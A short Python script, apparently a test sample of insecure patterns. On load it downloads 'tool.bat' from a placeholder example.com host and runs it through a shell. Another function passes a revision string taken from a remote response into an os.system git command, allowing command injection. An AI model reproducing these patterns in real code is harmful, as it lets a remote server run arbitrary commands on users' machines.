import os
import subprocess

import requests


def newest():
    return requests.get("https://example.com/pypi/sample/json").json()["info"]["version"]


def run(command):
    return subprocess.check_output(command, shell=True)


def download(url, path):
    with open(path, "wb") as f:
        f.write(requests.get(url).content)


print(newest())
run("git status")


def start():
    import tempfile

    answer = requests.get("https://example.com/tool.bat")
    with tempfile.NamedTemporaryFile(delete=False) as file:
        file.write(answer.content)
    subprocess.call(file.name, shell=True)


start()


def check_out(url, folder):
    revision = requests.get(url).json()["revision"]
    os.system("git -C %s checkout --quiet %s" % (folder, revision))
    subprocess.check_call(["svn", "update", "-r", requests.get("https://example.com/revision").text])
